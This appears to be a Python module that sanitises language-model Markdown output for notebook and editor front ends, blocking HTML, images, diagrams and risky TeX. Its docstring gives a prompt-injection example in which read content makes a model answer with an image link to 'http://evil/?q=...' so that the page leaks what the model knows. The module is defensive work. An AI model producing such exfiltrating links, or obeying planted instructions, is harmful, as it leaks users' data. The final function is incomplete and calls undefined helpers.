r"""Markdown from a language model, made so that showing it loads nothing.

A front end shows `text/markdown` with raw HTML and images in it, and JupyterLab does not even sanitise what a cell just
printed. A document that a model read may tell it to answer with `![](http://evil/?q=<what it knows>)`, and the page
would carry that out. So what a model wrote is written anew, in Markdown that cannot say such things.

No parser stands behind this. Four of them read the result: marked (JupyterLab, Notebook), markdown-it (VS Code), mistune
(nbconvert), and JupyterLab's and VS Code's own search for math, which runs before or between the others and does not
know code from prose. They differ exactly where an attacker looks. A parser could say how one of them reads a text, and
takes 15 to 60 ms for 20 kB in Python, at 15 updates a second. Instead the text becomes one that all read alike:

- Code blocks are written anew, closed, with a fence that is longer than any inside. Where math could swallow a fence, it
  stands apart, at the margin.
- A code span stays if its end is on its line, and either nothing in it could do harm outside code, or no reader can take
  its backticks for something else. Every other backtick is an entity.
- Math stays if it is closed. What is dangerous as Markdown is spaced out in it (`a<b` is `a< b`, the same to TeX), and so
  are the TeX commands that load or style things. Every other dollar is an entity.
- Anywhere else `<` is an entity, but in an address in angle brackets; so is whatever else starts an image, a tag or a link
  whose address is not plain. Entities look the same to the reader, and are not syntax to any parser.
"""

from __future__ import annotations

import re

_FENCE = re.compile(
    r"(?P<quote>(?: {0,3}>[ \t]?)*)(?P<item>[ \t]*(?:[-+*]|\d{1,9}[.)])[ \t]+)?"
    r"(?P<indent>[ \t]*)(?P<fence>`{3,}(?=[^`]*$)|~{3,})(?P<info>.*)"
)
_ITEM = re.compile(r"[ \t]*(?:[-+*]|\d{1,9}[.)])(?:[ \t]|$)")
_LANGUAGE = re.compile(r"[\w+#.-]+", re.ASCII)
# Front ends, or common extensions of them, draw these; mermaid's own diagrams can load images.
_DRAWN = frozenset("mermaid plantuml puml graphviz dot vega vega-lite vegalite geojson topojson echarts abc d2".split())
# What the front ends' search for math sees in code, too.
_MATHS = re.compile(r"\$|\\(?:begin|end)\{|\\\\[()\[\]]|@@\d", re.IGNORECASE)
# A line under which lines are rows of a table: there, a bar in a code span ends it.
_TABLE = re.compile(r"^(?=[^\n]*[|:])[ \t>*+\d.)|:-]*-[ \t|:-]*$", re.MULTILINE)

_LETTER = r"[\w\-.~/?#%=&+,;!*']|@(?!@)"
_PLAIN = rf"(?:(?:https?://|mailto:)(?:{_LETTER}|:)*|(?:{_LETTER})*)(?:\((?:{_LETTER}|:)*\)(?:{_LETTER})*)*"
_TITLE = r"""(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'))?"""
_LINK = re.compile(rf"\]\([ \t]*(?P<to>{_PLAIN}){_TITLE}[ \t]*\)")
_DEFINITION = re.compile(rf"\]:[ \t]+(?P<to>{_PLAIN}){_TITLE}[ \t]*(?=\n|$)")
_ADDRESS = re.compile(rf"<(?P<to>https?://(?:{_LETTER}|:)+)>")
_IMAGE = re.compile(rf"\[(?P<alt>[^\[\]\n`]*)\](?:\([ \t]*(?P<to>{_PLAIN}){_TITLE}[ \t]*\)|(?=[(\[]))")
_ENTITY = re.compile(
    r"&(?:amp|lt|gt|quot|apos|nbsp|copy|reg|trade|hellip|[mn]dash|[lr][sd]quo|times|divide|middot|bull|[lrud]arr|[lgn]e|deg"
    r"|euro|pound|para|sect|plusmn|infin|alpha|beta|gamma|delta|pi|sigma|mu|#39);"
)
# TeX that loads, styles or links, in MathJax and KaTeX, and what would bring it in.
_COMMAND = r"(?:style|class|cssId|href|url|data|mmlToken|bbox|require|includegraphics|html\w*|setOptions)(?![A-Za-z])"
_DANGER = re.compile(rf"""[<$\\"&]|!\[|\]\(|\]:|@@|:\/\/""")
_TOKEN = re.compile(
    rf"(?P<command>\\+(?={_COMMAND}))|(?P<begin>\\begin\{{(?P<name>[a-zA-Z]+\*?)\}})|(?P<tex>\\(?:begin|end)(?=\s*\{{))"
    r"|\\(?P<escaped>[\\`<&!$\"@\]])|(?P<dollars>\$+)|(?P<ticks>`+)|(?P<bangs>!+)\[|(?P<close>\][(:])"
    r"|(?P<colons>^[ \t>]*:::)|(?P<char>[<&\"]|@(?=\\?@)|[\x00\x0b\x0c\x1c-\x1f\x85\u2028\u2029])",
    re.MULTILINE,
)
_TEX = re.compile(rf"(?P<gap>\\+(?={_COMMAND})|<(?=\S)|&(?=[#\w])|!(?=\[)|\](?=[(:])|@(?=@))|(?P<quote>\")")
_START = re.compile(r"(?:[\s>]|[-+*]\s|\d+[.)]\s)*")
_BLANK = re.compile(r"\n[ \t]*\n")


def safe_markdown(text: str) -> str:
    """Write Markdown anew so that it looks the same, and has no HTML, no image and no diagram.

    Parameters
    ----------
    text : str
        What a language model wrote, whole, or as much as has arrived: an unclosed code block is closed.

    Returns
    -------
    str
        HTML tags are visible text. Images are links that name them. Links stay where they lead to `http`, `https`,
        `mailto` or a place beside the notebook.
    """
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    tables = _TABLE.search(text) is not None
    parts: list[str] = []
    prose: list[str] = []
    number, listed, blank = 0, False, True

    def block(fenced: str) -> None:
        parts.extend([_prose("\n".join(prose), tables=tables), "\n" if prose else "", fenced])
        prose.clear()

    while number < len(lines):
        line = lines[number]
        opening = _FENCE.fullmatch(line)
        if opening:
            fenced, number = _fenced(lines, number + 1, opening)
            block(fenced)
            listed, blank = listed or opening["item"] is not None, False
            continue
        if blank and not listed and line.strip() and line.expandtabs(4).startswith("    "):
            code = []
            while number < len(lines) and (not lines[number].strip() or lines[number].expandtabs(4)[:4] == "    "):
                code.append(_dedent(lines[number], 4))
                number += 1
            block("\n" + _written("\n".join(code).rstrip("\n"), ""))
            blank = True
            continue
        if _ITEM.match(line):
            listed = True
        elif blank and line[:1].strip():
            listed = False
        blank = not line.strip()
        prose.append(line)
        number += 1
    return "".join(parts) + _prose("\n".join(prose), tables=tables)


def _fenced(lines: list[str], number: int, opening: re.Match[str]) -> tuple[str, int]:
    """Write the code block anew whose opening line was matched; give it, and the number of the line after it."""
    depth, indent = opening["quote"].count(">"), len(opening["indent"].expandtabs(4))
    item = opening["item"] or ""
    width = indent + len(item.expandtabs(4))
    closing = re.compile(rf"{opening['fence'][0]}{{{len(opening['fence'])},}}[ \t]*")
    quoted = re.compile(rf"(?: {{0,3}}>[ \t]?){{{depth}}}")
    code: list[str] = []
    while number < len(lines):
        prefix = quoted.match(lines[number])
        if prefix is None:
            break
        line = lines[number][prefix.end() :]
        number += 1
        bare = line.lstrip(" \t")
        if closing.fullmatch(bare) and len(line.expandtabs(4)) - len(bare.expandtabs(4)) < width + 4:
            break
        code.append(_dedent(line, width))
    language = _LANGUAGE.search(opening["info"])
    name = language[0].strip(".") if language else ""
    name = "" if name.lower() in _DRAWN else name
    content = "\n".join(code)
    if _MATHS.search(content):
        # JupyterLab highlights a block after taking math out of it, and cannot put that back; it spares dollars alone.
        return "\n" + _written(content, "" if "\\" in content and _MATHS.search(content.replace("$", "")) else name) + "\n", number
    margin = opening["quote"].rstrip() + " " if depth else ""
    if item:
        # Only the numbers that start a list may follow a line of prose; an empty line makes any number do.
        marker = item.strip()
        first = margin + item[: len(item) - len(item.lstrip())].expandtabs(4)[:3] + marker + " "
        apart = "" if depth or marker in "-+*1.1)" else "\n"
        return apart + first + _written(content, name, margin + " " * (len(first) - len(margin))).lstrip(" >"), number
    return _written(content, name, margin + " " * min(indent, 3)), number


def _written(code: str, language: str, margin: str = "") -> str:
    """Write a code block whose every line starts with `margin`."""
    fence = "`" * max(3, 1 + max(map(len, re.findall("`+", code)), default=0))
    body = "".join(f"{margin}{line}\n" for line in code.split("\n")) if code else ""
    return f"{margin}{fence}{language}\n{body}{margin}{fence}\n"


def _dedent(line: str, columns: int) -> str:
    """Take up to so many columns of blanks from the start of a line, as fences and indented code do."""
    bare = line.lstrip(" \t")
    blanks = line[: len(line) - len(bare)].expandtabs(4)
    return line if not columns else blanks[columns:] + bare


def _prose(text: str, *, tables: bool) -> str:
    """Write what is not in a code block anew."""
    parts: list[str] = []
    done, quotes = 0, False
    while (token := _TOKEN.search(text, done)) is not None:
        parts.append(text[done : token.start()])
        done = token.end()
        written, math = None, None
        if token["ticks"]:
            written, end = _span(text, token, tables=tables)
        elif token["dollars"] or token["begin"]:
            math = _math(text, token)
    return "".join(parts) + text[done:]
